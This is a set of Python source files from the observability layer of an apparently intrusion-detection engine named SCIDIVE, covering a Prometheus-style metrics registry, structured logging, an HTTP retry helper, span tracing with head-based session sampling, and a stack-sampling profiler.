        return self._default_child().quantile(q)

    def quantiles(self, qs: Iterable[float] = DEFAULT_QUANTILES) -> dict[float, float]:
        child = self._default_child()
        return {q: child.quantile(q) for q in qs}

    @property
    def count(self) -> int:
        return self._default_child().count

    @property
    def sum(self) -> float:
        return self._default_child().sum


class MetricsRegistry:
    """Holds metric families; families are get-or-create by name."""

    def __init__(self) -> None:
        self._metrics: dict[str, Metric] = {}

    # -- registration ---------------------------------------------------------

    def register(self, metric: Metric) -> Metric:
        existing = self._metrics.get(metric.name)
        if existing is not None:
            raise MetricError(f"metric already registered: {metric.name}")
        self._metrics[metric.name] = metric
        return metric

    def _get_or_create(self, cls, name: str, help: str, labelnames, **kwargs) -> Metric:
        metric = self._metrics.get(name)
        if metric is not None:
            if type(metric) is not cls:
                raise MetricError(
                    f"{name} already registered as {metric.typename}, not {cls.typename}"
                )
            if metric.labelnames != tuple(labelnames):
                raise MetricError(
                    f"{name} already registered with labels {metric.labelnames}"
                )
            return metric
        return self.register(cls(name, help, labelnames, **kwargs))

    def counter(self, name: str, help: str = "", labelnames: Iterable[str] = ()) -> Counter:
        return self._get_or_create(Counter, name, help, labelnames)

    def gauge(self, name: str, help: str = "", labelnames: Iterable[str] = ()) -> Gauge:
        return self._get_or_create(Gauge, name, help, labelnames)

    def histogram(
        self,
        name: str,
        help: str = "",
        labelnames: Iterable[str] = (),
        buckets: Iterable[float] = DEFAULT_BUCKETS,
    ) -> Histogram:
        return self._get_or_create(Histogram, name, help, labelnames, buckets=buckets)

    def summary(
        self,
        name: str,
        help: str = "",
        labelnames: Iterable[str] = (),
        alpha: float = DEFAULT_SUMMARY_ALPHA,
    ) -> Summary:
        return self._get_or_create(Summary, name, help, labelnames, alpha=alpha)

    def get(self, name: str) -> Metric | None:
        return self._metrics.get(name)

    # -- merging --------------------------------------------------------------

    def merge(self, other: "MetricsRegistry") -> "MetricsRegistry":
        """Fold another registry into this one, family by family.

        Counters and gauges sum per label set; histograms sum bucket
        counts (bounds must match).  Used by the cluster to aggregate
        per-worker registries into one exporter-compatible view.
        Returns ``self`` so ``reduce``-style folds read naturally.
        """
        for metric in other:
            if isinstance(metric, Histogram):
                mine = self.histogram(
                    metric.name, metric.help, metric.labelnames, buckets=metric.buckets
                )
            elif isinstance(metric, Summary):
                mine = self.summary(
                    metric.name, metric.help, metric.labelnames, alpha=metric.alpha
                )
            elif isinstance(metric, Counter):
                mine = self.counter(metric.name, metric.help, metric.labelnames)
            elif isinstance(metric, Gauge):
                mine = self.gauge(metric.name, metric.help, metric.labelnames)
            else:
                raise MetricError(f"cannot merge metric type {type(metric).__name__}")
            mine.merge(metric)
        return self

    def merge_dict(self, payload: dict) -> "MetricsRegistry":
        """Fold an :meth:`as_dict` payload into this registry.

        This is the cross-process transport: worker processes ship their
        registry as a plain dict over the result queue and the cluster
        folds each payload here (no pickling of metric objects).
        """
        for entry in payload.get("metrics", []):
            series = entry.get("series", [])
            if not series:
                continue
            name = entry["name"]
            typename = entry.get("type", "untyped")
            help = entry.get("help", "")
            labelnames = tuple(series[0].get("labels", {}))
            if typename == "histogram":
                bounds = tuple(sorted(float(b) for b in series[0].get("buckets", {})))
                mine = self.histogram(name, help, labelnames, buckets=bounds)
            elif typename == "summary":
                gamma = float(series[0].get("gamma", 0.0))
                alpha = (
                    (gamma - 1.0) / (gamma + 1.0)
                    if gamma > 1.0 else DEFAULT_SUMMARY_ALPHA
                )
                mine = self.summary(name, help, labelnames, alpha=alpha)
            elif typename == "counter":
                mine = self.counter(name, help, labelnames)
            elif typename == "gauge":
                mine = self.gauge(name, help, labelnames)
            else:
                raise MetricError(f"cannot merge metric type {typename!r}")
            for sample in series:
                labels = sample.get("labels", {})
                child = mine.labels(**labels) if labels else mine._default_child()
                try:
                    child._merge_dict(sample)
                except MetricError as exc:
                    # Same debuggability contract as Metric.merge: a
                    # cross-process payload mismatch names its family
                    # and label set, not just the clashing bounds.
                    raise MetricError(f"{name}{_labels_repr(labels)}: {exc}") from None
        return self

    def __iter__(self):
        return iter(self._metrics.values())

    def __len__(self) -> int:
        return len(self._metrics)

    # -- exporters ------------------------------------------------------------

    def render_prometheus(self) -> str:
        """Prometheus text exposition format (version 0.0.4)."""
        lines: list[str] = []
        for metric in sorted(self._metrics.values(), key=lambda m: m.name):
            lines.append(f"# HELP {metric.name} {metric.help}")
            lines.append(f"# TYPE {metric.name} {metric.typename}")
            for suffix, labels, value in metric.samples():
                names = tuple(k for k, _ in labels)
                values = tuple(v for _, v in labels)
                lines.append(
                    f"{metric.name}{suffix}{_format_labels(names, values)} "
                    f"{_format_value(value)}"
                )
        return "\n".join(lines) + ("\n" if lines else "")

    def as_dict(self) -> dict[str, Any]:
        return {"metrics": [m.as_dict() for m in
                            sorted(self._metrics.values(), key=lambda m: m.name)]}

    def render_json(self, indent: int | None = None) -> str:
        return json.dumps(self.as_dict(), indent=indent, sort_keys=True)

    def write_prometheus(self, path) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            fh.write(self.render_prometheus())


# ---------------------------------------------------------------------------
# Process-global default registry
# ---------------------------------------------------------------------------

_default_registry = MetricsRegistry()


def default_registry() -> MetricsRegistry:
    """The process-global registry (analogous to prometheus_client.REGISTRY)."""
    return _default_registry


def set_default_registry(registry: MetricsRegistry) -> MetricsRegistry:
    """Swap the process-global registry; returns the previous one."""
    global _default_registry
    previous = _default_registry
    _default_registry = registry
    return previous


def parse_prometheus(text: str) -> dict[str, dict[str, float]]:
    """Minimal parser for the text format — used by tests and CI smoke
    checks to validate exporter output.  Returns
    ``{family: {sample_line_key: value}}`` where the key is the full
    sample name including labels."""
    families: dict[str, dict[str, float]] = {}
    current = None
    for line in text.splitlines():
        line = line.strip()
        if not line:
            continue
        if line.startswith("# TYPE "):
            current = line.split()[2]
            families.setdefault(current, {})
            continue
        if line.startswith("#"):
            continue
        key, _, raw = line.rpartition(" ")
        if not key:
            raise ValueError(f"bad sample line: {line!r}")
        value = float(raw)
        base = key.split("{", 1)[0]
        family = base
        for suffix in ("_bucket", "_sum", "_count"):
            if base.endswith(suffix) and base.removesuffix(suffix) in families:
                family = base.removesuffix(suffix)
        if current is None or family not in families:
            raise ValueError(f"sample before TYPE line: {line!r}")
        families[family][key] = value
    return families
