"""Pipeline observability: metrics registry, tracing, structured logs.

Three consumers, one switchboard:

* **Per-engine**: pass ``metrics_enabled=True`` (or an
  :class:`Observability` instance) to :class:`~repro.core.engine.ScidiveEngine`.
* **Process-wide**: :func:`enable` installs a global
  :class:`Observability`; every engine constructed afterwards picks it
  up automatically — this is how the CLI's ``--metrics-out`` /
  ``--trace-out`` flags reach engines built deep inside the experiment
  harness.  :func:`disable` uninstalls it.
* **Off** (the default): engines hold ``None`` and the hot path pays a
  single ``is None`` check per stage.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.obs.forensics import (
    ForensicsConfig,
    ForensicsRecorder,
    ProvenanceGraph,
    configure_forensics,
    default_forensics_config,
    format_bundle,
    format_malformed_bundle,
    list_bundles,
    load_bundle,
    write_malformed_bundle,
)
from repro.obs.budget import (
    DEFAULT_FRAME_BUDGET,
    OVERLOAD_RULE_ID,
    LatencyBudgetDetector,
)
from repro.obs.history import MetricsHistory
from repro.obs.instrument import EngineInstrumentation, InstrumentationHook
from repro.obs.logsetup import get_logger, setup_logging
from repro.obs.registry import (
    Counter,
    Gauge,
    Histogram,
    MetricError,
    MetricsRegistry,
    Summary,
    default_registry,
    parse_prometheus,
    set_default_registry,
)
from repro.obs.profile import (
    SignalSampler,
    StackSampler,
    attach_profiler,
    format_top,
)
from repro.obs.server import ObsServer, StatusSource
from repro.obs.tracing import (
    DEFAULT_TRACE_SAMPLE_RATE,
    Span,
    StageStats,
    TraceContext,
    Tracer,
    read_trace_jsonl,
    sample_session,
    session_trace_id,
    sort_timeline,
    write_spans_jsonl,
)


def set_build_info(
    registry: MetricsRegistry,
    *,
    backend: str,
    pack: str | None = None,
) -> None:
    """Export the ``scidive_build_info`` info-style gauge.

    Value is always 1; the identity lives in the labels (version, rule
    pack, python, backend), so dashboards can join engine and cluster
    scrapes on a common build identity.  After an N-way registry merge
    the value is the number of sources reporting that identity.
    """
    import platform

    from repro import __version__

    registry.gauge(
        "scidive_build_info",
        "Build identity (value = sources reporting this identity)",
        labelnames=("version", "pack", "python", "backend"),
    ).labels(
        version=__version__,
        pack=pack or "builtin",
        python=platform.python_version(),
        backend=backend,
    ).set(1)


@dataclass
class Observability:
    """One registry (+ optional tracer) shared by any number of engines."""

    registry: MetricsRegistry = field(default_factory=MetricsRegistry)
    tracer: Tracer | None = None
    # Streaming latency quantiles (frame/stage/module summaries).
    summaries: bool = True
    # Stage/module sketches observe every Nth frame (1 = every frame);
    # the frame-level sketch and the latency budget always see all.
    summary_sample_rate: int = 4
    # Time every Nth rule match() invocation; 0 disables cost accounting.
    cost_sample_rate: int = 16
    # Per-frame latency budget in seconds; None = engine default.
    frame_budget: float | None = None

    @classmethod
    def create(cls, trace: bool = True) -> "Observability":
        return cls(registry=MetricsRegistry(), tracer=Tracer() if trace else None)

    def instrument_engine(self, name: str) -> EngineInstrumentation:
        return EngineInstrumentation(
            self.registry, engine=name, tracer=self.tracer,
            summaries=self.summaries,
            summary_sample=self.summary_sample_rate,
        )


_current: Observability | None = None


def enable(
    registry: MetricsRegistry | None = None,
    trace: bool = True,
) -> Observability:
    """Install (and return) the process-global observability context."""
    global _current
    _current = Observability(
        registry=registry if registry is not None else MetricsRegistry(),
        tracer=Tracer() if trace else None,
    )
    return _current


def disable() -> None:
    """Uninstall the process-global context (engines built later run dark)."""
    global _current
    _current = None


def current() -> Observability | None:
    """The installed global context, or None when observability is off."""
    return _current


__all__ = [
    "Counter",
    "DEFAULT_FRAME_BUDGET",
    "DEFAULT_TRACE_SAMPLE_RATE",
    "EngineInstrumentation",
    "ForensicsConfig",
    "ForensicsRecorder",
    "Gauge",
    "Histogram",
    "InstrumentationHook",
    "LatencyBudgetDetector",
    "MetricError",
    "MetricsHistory",
    "MetricsRegistry",
    "OVERLOAD_RULE_ID",
    "Observability",
    "ObsServer",
    "ProvenanceGraph",
    "SignalSampler",
    "Span",
    "StackSampler",
    "StageStats",
    "StatusSource",
    "Summary",
    "TraceContext",
    "Tracer",
    "attach_profiler",
    "configure_forensics",
    "current",
    "default_forensics_config",
    "default_registry",
    "disable",
    "enable",
    "format_bundle",
    "format_malformed_bundle",
    "format_top",
    "get_logger",
    "list_bundles",
    "load_bundle",
    "write_malformed_bundle",
    "parse_prometheus",
    "read_trace_jsonl",
    "sample_session",
    "session_trace_id",
    "set_build_info",
    "set_default_registry",
    "setup_logging",
    "sort_timeline",
    "write_spans_jsonl",
]
