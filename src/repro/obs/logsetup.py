"""Structured logging for the SCIDIVE engine and experiment harness.

Library modules obtain loggers via :func:`get_logger` (all under the
``repro`` namespace, with a ``NullHandler`` attached so importing the
library never prints anything).  Applications — the CLI, benchmarks,
the CI smoke run — opt in with :func:`setup_logging`, choosing either
human-readable ``key=value`` lines or JSON lines for machine ingestion.

Both formats put structured fields (``extra={...}``) on the line, so
``logger.info("housekeep", extra={"fields": {"reclaimed": 3}})`` renders
as ``... housekeep reclaimed=3`` or ``{"msg": "housekeep",
"reclaimed": 3, ...}``.
"""

from __future__ import annotations

import json
import logging
import sys
from typing import Any, Mapping

ROOT_LOGGER_NAME = "repro"

logging.getLogger(ROOT_LOGGER_NAME).addHandler(logging.NullHandler())


def get_logger(name: str) -> logging.Logger:
    """A namespaced library logger: ``get_logger("core.engine")``."""
    if name.startswith(ROOT_LOGGER_NAME):
        return logging.getLogger(name)
    return logging.getLogger(f"{ROOT_LOGGER_NAME}.{name}")


def _extra_fields(record: logging.LogRecord) -> Mapping[str, Any]:
    fields = getattr(record, "fields", None)
    return fields if isinstance(fields, Mapping) else {}


class KeyValueFormatter(logging.Formatter):
    """``HH:MM:SS level logger message key=value ...``"""

    def format(self, record: logging.LogRecord) -> str:
        base = (
            f"{self.formatTime(record, '%H:%M:%S')} "
            f"{record.levelname.lower():<7} {record.name}: {record.getMessage()}"
        )
        pairs = " ".join(f"{k}={v}" for k, v in _extra_fields(record).items())
        out = f"{base} {pairs}" if pairs else base
        if record.exc_info:
            out = f"{out}\n{self.formatException(record.exc_info)}"
        return out


class JsonLinesFormatter(logging.Formatter):
    """One JSON object per log line."""

    def format(self, record: logging.LogRecord) -> str:
        payload: dict[str, Any] = {
            "ts": self.formatTime(record, "%Y-%m-%dT%H:%M:%S"),
            "level": record.levelname,
            "logger": record.name,
            "msg": record.getMessage(),
        }
        for key, value in _extra_fields(record).items():
            if key not in payload:
                payload[key] = value
        if record.exc_info:
            payload["exc"] = self.formatException(record.exc_info)
        return json.dumps(payload, default=str)


def setup_logging(
    level: int | str = logging.INFO,
    stream=None,
    json_lines: bool = False,
) -> logging.Logger:
    """Attach one stream handler to the ``repro`` logger (idempotent).

    Returns the configured root library logger.
    """
    logger = logging.getLogger(ROOT_LOGGER_NAME)
    logger.setLevel(level)
    formatter = JsonLinesFormatter() if json_lines else KeyValueFormatter()
    for handler in logger.handlers:
        if isinstance(handler, logging.StreamHandler) and not isinstance(
            handler, logging.NullHandler
        ):
            handler.setFormatter(formatter)
            handler.setLevel(level)
            break
    else:
        handler = logging.StreamHandler(stream if stream is not None else sys.stderr)
        handler.setFormatter(formatter)
        handler.setLevel(level)
        logger.addHandler(handler)
    return logger
