"""Bounded retry for the sidecar's HTTP clients.

``repro rules reload``, ``repro trace`` and ``repro top --once`` all
talk to the ``--serve-http`` sidecar over loopback HTTP.  The sidecar
binds on a thread while the replay is starting, so the first probe of a
freshly launched run can race the bind and see a connection refused —
a transient, not an outage.  :func:`with_retries` gives such calls
three attempts with full-jitter exponential backoff.

An ``HTTPError`` is a *decision* from the sidecar (409 rejected reload,
404 unknown path) and is re-raised immediately: retrying cannot change
the server's mind, and a rejected rule pack must not be re-POSTed.
"""

from __future__ import annotations

import random
import time
import urllib.error
from typing import Callable, TypeVar

T = TypeVar("T")

DEFAULT_ATTEMPTS = 3
DEFAULT_BASE_DELAY = 0.2


def with_retries(
    call: Callable[[], T],
    attempts: int = DEFAULT_ATTEMPTS,
    base_delay: float = DEFAULT_BASE_DELAY,
    sleep: Callable[[float], None] = time.sleep,
    rng: Callable[[], float] = random.random,
) -> T:
    """Run ``call`` with up to ``attempts`` tries on transient failures.

    Retryable: connection refused/reset, timeouts, truncated payloads
    (``URLError``/``OSError``/``ValueError``).  Backoff before attempt
    ``n`` is uniform in ``[0, base_delay * 2**n)`` — full jitter, so
    concurrent clients hammering one sidecar decorrelate.  The last
    failure is re-raised unchanged for the caller's error reporting.
    """
    if attempts < 1:
        raise ValueError(f"attempts must be >= 1 (got {attempts})")
    last: Exception | None = None
    for attempt in range(attempts):
        try:
            return call()
        except urllib.error.HTTPError:
            raise
        except (urllib.error.URLError, OSError, ValueError) as exc:
            last = exc
            if attempt + 1 < attempts:
                sleep(base_delay * (2**attempt) * rng())
    assert last is not None
    raise last
