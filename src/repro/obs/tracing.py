"""Structured tracing: per-frame, per-stage spans through the pipeline.

A :class:`Tracer` records lightweight :class:`Span` objects as frames
move Distiller → TrailManager → Event Generators → RuleSet.  Spans are
*sim-clock aware*: each carries the simulated timestamp of the frame
being processed (``sim_time``) alongside the measured wall-clock
duration, so a trace can answer both "when in the call did this happen"
and "what did it cost the engine".

Traces export as JSON-lines (one span per line) and reduce to a
per-stage latency summary that the ``repro stats`` subcommand and the
observability benchmarks print as a table.
"""

from __future__ import annotations

import json
import time
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any, Iterator

# A span's stage name, e.g. "distill", "trail", "generate:dialog", "match".
DEFAULT_MAX_SPANS = 1_000_000


@dataclass(slots=True)
class Span:
    """One timed stage execution for one frame."""

    name: str
    frame: int  # engine frame sequence number (0 = unknown)
    sim_time: float  # simulated timestamp of the frame
    duration: float  # wall-clock seconds spent in the stage
    meta: dict[str, Any] = field(default_factory=dict)

    def to_dict(self) -> dict[str, Any]:
        record: dict[str, Any] = {
            "span": self.name,
            "frame": self.frame,
            "t_sim": round(self.sim_time, 9),
            "dur_us": round(self.duration * 1e6, 3),
        }
        if self.meta:
            record["meta"] = self.meta
        return record


@dataclass(slots=True)
class StageStats:
    """Wall-clock latency summary for one stage across a trace."""

    stage: str
    count: int
    total: float
    mean: float
    p50: float
    p95: float
    max: float


class Tracer:
    """Collects spans; bounded so runaway replays cannot exhaust memory."""

    def __init__(self, max_spans: int = DEFAULT_MAX_SPANS) -> None:
        self.max_spans = max_spans
        self.spans: list[Span] = []
        self.dropped = 0

    # -- recording ------------------------------------------------------------

    def record(
        self,
        name: str,
        duration: float,
        frame: int = 0,
        sim_time: float = 0.0,
        **meta: Any,
    ) -> None:
        """File one pre-measured span (the engine's hot path uses this)."""
        if len(self.spans) >= self.max_spans:
            self.dropped += 1
            return
        self.spans.append(Span(name, frame, sim_time, duration, meta))

    @contextmanager
    def span(self, name: str, frame: int = 0, sim_time: float = 0.0,
             **meta: Any) -> Iterator[dict[str, Any]]:
        """Time a block; yields the meta dict so callers can annotate it."""
        started = time.perf_counter()
        try:
            yield meta
        finally:
            self.record(name, time.perf_counter() - started,
                        frame=frame, sim_time=sim_time, **meta)

    def clear(self) -> None:
        self.spans.clear()
        self.dropped = 0

    def __len__(self) -> int:
        return len(self.spans)

    # -- export ---------------------------------------------------------------

    def write_jsonl(self, path) -> int:
        """Write one JSON object per span; returns the number written."""
        with open(path, "w", encoding="utf-8") as fh:
            for span in self.spans:
                fh.write(json.dumps(span.to_dict()) + "\n")
        return len(self.spans)

    def stage_summary(self) -> list[StageStats]:
        """Reduce spans to per-stage latency statistics, busiest first."""
        by_stage: dict[str, list[float]] = {}
        for span in self.spans:
            by_stage.setdefault(span.name, []).append(span.duration)
        out = []
        for stage, durations in by_stage.items():
            durations.sort()
            n = len(durations)
            out.append(StageStats(
                stage=stage,
                count=n,
                total=sum(durations),
                mean=sum(durations) / n,
                p50=_percentile(durations, 50.0),
                p95=_percentile(durations, 95.0),
                max=durations[-1],
            ))
        out.sort(key=lambda s: s.total, reverse=True)
        return out


def _percentile(ordered: list[float], q: float) -> float:
    """Linear-interpolation percentile over a pre-sorted list."""
    if not ordered:
        return 0.0
    k = (len(ordered) - 1) * q / 100.0
    lo = int(k)
    hi = min(lo + 1, len(ordered) - 1)
    if lo == hi:
        return ordered[lo]
    return ordered[lo] * (hi - k) + ordered[hi] * (k - lo)


def read_trace_jsonl(path) -> list[dict[str, Any]]:
    """Load a trace written by :meth:`Tracer.write_jsonl`."""
    records = []
    with open(path, "r", encoding="utf-8") as fh:
        for line in fh:
            line = line.strip()
            if line:
                records.append(json.loads(line))
    return records
