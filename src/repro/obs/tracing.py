"""Structured tracing: per-frame, per-stage spans through the pipeline.

A :class:`Tracer` records lightweight :class:`Span` objects as frames
move Distiller → TrailManager → Event Generators → RuleSet.  Spans are
*sim-clock aware*: each carries the simulated timestamp of the frame
being processed (``sim_time``) alongside the measured wall-clock
duration, so a trace can answer both "when in the call did this happen"
and "what did it cost the engine".

Traces export as JSON-lines (one span per line) and reduce to a
per-stage latency summary that the ``repro stats`` subcommand and the
observability benchmarks print as a table.

Cross-process tracing (:mod:`repro.cluster`) builds on three additions:

* :class:`TraceContext` — the propagated identity of one traced
  session: a deterministic ``trace_id`` plus the parent span name.  The
  router derives it from the shard key, so a sampled session is sampled
  *end-to-end* and the same sessions are sampled on the serial, threads
  and process backends alike (head-based sampling, no coordination).
* Per-span ``trace_id``/``parent`` fields, emitted only when set so
  single-engine traces keep their original JSONL schema.
* A per-tracer *context gate*: cluster workers set
  ``tracer.gate = True`` and stamp ``tracer.context`` per frame, so
  spans record only for sampled sessions and unsampled frames pay one
  attribute read.
"""

from __future__ import annotations

import hashlib
import json
import time
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any, Iterable, Iterator

# A span's stage name, e.g. "distill", "trail", "generate:dialog", "match".
DEFAULT_MAX_SPANS = 1_000_000

# Head-based sampling default for cluster tracing: 1-in-N sessions.
# The observability bench proves tracing at this rate costs <= 5%.
DEFAULT_TRACE_SAMPLE_RATE = 8

# Merge ordering for spans sharing one sim timestamp: the journey reads
# route → queue-wait → pipeline stages even when durations are sub-tick.
STAGE_ORDER = {
    "route": 0,
    "queue-wait": 1,
    "distill": 2,
    "state": 3,
    "trail": 4,
    "generate": 5,
    "match": 6,
    "housekeep": 7,
}


def sample_session(canon: str, rate: int = DEFAULT_TRACE_SAMPLE_RATE) -> bool:
    """Deterministic head-based sampling decision for one session.

    ``canon`` is the session's canonical shard-key encoding (see
    :meth:`repro.cluster.sharding.ShardKey.canon`).  The decision hashes
    SHA-1, not the CRC32 that :func:`~repro.cluster.sharding.shard_index`
    uses: CRC32 is linear, so any salted CRC differs from the placement
    hash only by a per-length constant and ``crc % rate == 0`` would
    still pin every sampled session of a given key length to one worker.
    SHA-1 decorrelates the two for real, and the decision is made once
    per session (the router caches it), so the hash cost is irrelevant.
    """
    if rate <= 1:
        return True
    digest = hashlib.sha1(b"trace|" + canon.encode("utf-8")).digest()
    return int.from_bytes(digest[:8], "big") % rate == 0


def session_trace_id(canon: str) -> str:
    """The stable trace id for one session key (16 hex chars)."""
    return hashlib.sha1(canon.encode("utf-8")).hexdigest()[:16]


@dataclass(frozen=True, slots=True)
class TraceContext:
    """The propagated identity of one traced session.

    ``trace_id`` is empty for unsampled sessions — carrying the negative
    decision explicitly lets the router cache it and workers skip span
    recording with a single truthiness check.
    """

    trace_id: str
    parent: str = ""

    @property
    def sampled(self) -> bool:
        return bool(self.trace_id)

    @classmethod
    def for_session(
        cls,
        canon: str,
        rate: int = DEFAULT_TRACE_SAMPLE_RATE,
        parent: str = "route",
    ) -> "TraceContext":
        """Head-based sampling: decide once, at the routing decision."""
        if not sample_session(canon, rate):
            return cls(trace_id="", parent=parent)
        return cls(trace_id=session_trace_id(canon), parent=parent)


@dataclass(slots=True)
class Span:
    """One timed stage execution for one frame."""

    name: str
    frame: int  # engine frame sequence number (0 = unknown)
    sim_time: float  # simulated timestamp of the frame
    duration: float  # wall-clock seconds spent in the stage
    meta: dict[str, Any] = field(default_factory=dict)
    trace_id: str = ""  # cross-process trace identity ("" = untraced)
    parent: str = ""    # upstream span name within the trace

    def to_dict(self) -> dict[str, Any]:
        record: dict[str, Any] = {
            "span": self.name,
            "frame": self.frame,
            "t_sim": round(self.sim_time, 9),
            "dur_us": round(self.duration * 1e6, 3),
        }
        if self.trace_id:
            record["trace"] = self.trace_id
        if self.parent:
            record["parent"] = self.parent
        if self.meta:
            record["meta"] = self.meta
        return record


@dataclass(slots=True)
class StageStats:
    """Wall-clock latency summary for one stage across a trace."""

    stage: str
    count: int
    total: float
    mean: float
    p50: float
    p95: float
    max: float


class Tracer:
    """Collects spans; bounded so runaway replays cannot exhaust memory.

    Cluster workers run *gated* tracers: ``gate=True`` plus a per-frame
    ``context`` (the session's trace id, ``""`` for unsampled sessions)
    make :meth:`record` a no-op for unsampled frames, so head-based
    sampling bounds the cost of tracing a busy shard.
    """

    def __init__(self, max_spans: int = DEFAULT_MAX_SPANS) -> None:
        self.max_spans = max_spans
        self.spans: list[Span] = []
        self.dropped = 0
        # Cross-process trace identity for the frame being processed.
        self.context: str = ""
        self.context_parent: str = ""
        # When gated, frames without a sampled context record nothing.
        self.gate = False

    # -- recording ------------------------------------------------------------

    def record(
        self,
        name: str,
        duration: float,
        frame: int = 0,
        sim_time: float = 0.0,
        trace_id: str | None = None,
        parent: str | None = None,
        **meta: Any,
    ) -> None:
        """File one pre-measured span (the engine's hot path uses this)."""
        tid = self.context if trace_id is None else trace_id
        if self.gate and not tid:
            return
        if len(self.spans) >= self.max_spans:
            self.dropped += 1
            return
        if parent is None:
            parent = self.context_parent if tid else ""
        self.spans.append(
            Span(name, frame, sim_time, duration, meta, tid, parent))

    @contextmanager
    def span(self, name: str, frame: int = 0, sim_time: float = 0.0,
             **meta: Any) -> Iterator[dict[str, Any]]:
        """Time a block; yields the meta dict so callers can annotate it."""
        started = time.perf_counter()
        try:
            yield meta
        finally:
            self.record(name, time.perf_counter() - started,
                        frame=frame, sim_time=sim_time, **meta)

    def clear(self) -> None:
        self.spans.clear()
        self.dropped = 0

    def drain(self) -> list[Span]:
        """Take the buffered spans, *preserving* the cumulative drop count.

        Cluster workers drain at batch boundaries; unlike :meth:`clear`
        this keeps ``dropped`` monotonic so the ``spans_dropped_total``
        counter stays correct across drains.
        """
        spans = self.spans
        self.spans = []
        return spans

    def __len__(self) -> int:
        return len(self.spans)

    # -- export ---------------------------------------------------------------

    def write_jsonl(self, path) -> int:
        """Write one JSON object per span; returns the number written."""
        with open(path, "w", encoding="utf-8") as fh:
            for span in self.spans:
                fh.write(json.dumps(span.to_dict()) + "\n")
        return len(self.spans)

    def stage_summary(self) -> list[StageStats]:
        """Reduce spans to per-stage latency statistics, busiest first."""
        by_stage: dict[str, list[float]] = {}
        for span in self.spans:
            by_stage.setdefault(span.name, []).append(span.duration)
        out = []
        for stage, durations in by_stage.items():
            durations.sort()
            n = len(durations)
            out.append(StageStats(
                stage=stage,
                count=n,
                total=sum(durations),
                mean=sum(durations) / n,
                p50=_percentile(durations, 50.0),
                p95=_percentile(durations, 95.0),
                max=durations[-1],
            ))
        out.sort(key=lambda s: s.total, reverse=True)
        return out


def _percentile(ordered: list[float], q: float) -> float:
    """Linear-interpolation percentile over a pre-sorted list."""
    if not ordered:
        return 0.0
    k = (len(ordered) - 1) * q / 100.0
    lo = int(k)
    hi = min(lo + 1, len(ordered) - 1)
    if lo == hi:
        return ordered[lo]
    return ordered[lo] * (hi - k) + ordered[hi] * (k - lo)


def read_trace_jsonl(path) -> list[dict[str, Any]]:
    """Load a trace written by :meth:`Tracer.write_jsonl`."""
    records = []
    with open(path, "r", encoding="utf-8") as fh:
        for line in fh:
            line = line.strip()
            if line:
                records.append(json.loads(line))
    return records


def sort_timeline(records: Iterable[dict[str, Any]]) -> list[dict[str, Any]]:
    """Order merged span records into one cluster-wide timeline.

    Primary key is the simulated timestamp; ties (sub-tick stages of the
    same frame) break on the pipeline stage order and then the frame
    sequence number, so a journey always reads route → queue-wait →
    distill → … → match.
    """
    fallback = len(STAGE_ORDER)

    def key(record: dict[str, Any]):
        name = record.get("span", "")
        stage = name.split(":", 1)[0]
        return (
            record.get("t_sim", 0.0),
            STAGE_ORDER.get(stage, fallback),
            record.get("frame", 0),
        )

    return sorted(records, key=key)


def write_spans_jsonl(path, records: Iterable[dict[str, Any]]) -> int:
    """Write already-merged span records (dicts) as JSON lines."""
    count = 0
    with open(path, "w", encoding="utf-8") as fh:
        for record in records:
            fh.write(json.dumps(record) + "\n")
            count += 1
    return count
