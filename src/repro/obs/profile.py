"""Hot-path continuous profiling: stdlib sampling stack profilers.

Two samplers with one aggregation model:

* :class:`StackSampler` — a daemon thread snapshots a target thread's
  stack via ``sys._current_frames()`` every ``interval`` seconds.  Works
  anywhere (cluster workers attach one per process via
  ``ClusterConfig.profile_dir``), costs one dict lookup plus a frame
  walk per sample, and needs no cooperation from the profiled code.
* :class:`SignalSampler` — ``signal.setitimer(ITIMER_PROF)`` delivers
  ``SIGPROF`` on *CPU time* consumed, so idle waits are never sampled.
  Main-thread only (POSIX signal semantics); ``repro profile`` uses it
  when possible.

Both aggregate into collapsed-stack form — ``frame;frame;frame count``
per line, root first — the input format of ``flamegraph.pl`` and every
compatible viewer, so ``repro profile --out hot.collapsed`` is one
pipeline step from a flame graph.
"""

from __future__ import annotations

import signal
import sys
import threading
from contextlib import contextmanager
from types import CodeType, FrameType
from typing import Iterator

DEFAULT_INTERVAL = 0.005  # 200 Hz: coarse enough to stay <1% overhead
_MAX_DEPTH = 64


def _frame_label(code: CodeType) -> str:
    """``path:function`` with the path shortened to the repo-relevant
    tail (from ``repro/`` onward when present, else the basename)."""
    filename = code.co_filename
    marker = filename.rfind("repro/")
    if marker >= 0:
        short = filename[marker:]
    else:
        short = filename.rsplit("/", 1)[-1]
    return f"{short}:{code.co_name}"


class _SamplerBase:
    """Shared aggregation: stacks fold into a ``{stack_key: count}`` dict."""

    def __init__(self, interval: float = DEFAULT_INTERVAL) -> None:
        self.interval = max(1e-4, float(interval))
        self.counts: dict[str, int] = {}
        self.samples = 0

    def _ingest(self, frame: FrameType | None) -> None:
        if frame is None:
            return
        labels: list[str] = []
        depth = 0
        while frame is not None and depth < _MAX_DEPTH:
            labels.append(_frame_label(frame.f_code))
            frame = frame.f_back
            depth += 1
        if not labels:
            return
        labels.reverse()  # collapsed format runs root → leaf
        key = ";".join(labels)
        self.counts[key] = self.counts.get(key, 0) + 1
        self.samples += 1

    # -- export ---------------------------------------------------------------

    def collapsed(self) -> str:
        """The full profile in collapsed-stack form, heaviest first."""
        lines = [
            f"{key} {count}"
            for key, count in sorted(
                self.counts.items(), key=lambda kv: (-kv[1], kv[0])
            )
        ]
        return "\n".join(lines) + ("\n" if lines else "")

    def write_collapsed(self, path) -> int:
        """Write the collapsed profile; returns the sample count."""
        with open(path, "w", encoding="utf-8") as fh:
            fh.write(self.collapsed())
        return self.samples

    def top(self, n: int = 12) -> list[tuple[str, int, int]]:
        """``(frame, self_samples, total_samples)`` rows, hottest first.

        *self* counts samples where the frame is the leaf (it was on
        CPU); *total* counts samples where it appears anywhere on the
        stack (it was on the critical path).
        """
        self_counts: dict[str, int] = {}
        total_counts: dict[str, int] = {}
        for key, count in self.counts.items():
            labels = key.split(";")
            leaf = labels[-1]
            self_counts[leaf] = self_counts.get(leaf, 0) + count
            for label in set(labels):
                total_counts[label] = total_counts.get(label, 0) + count
        rows = [
            (label, self_counts.get(label, 0), total)
            for label, total in total_counts.items()
        ]
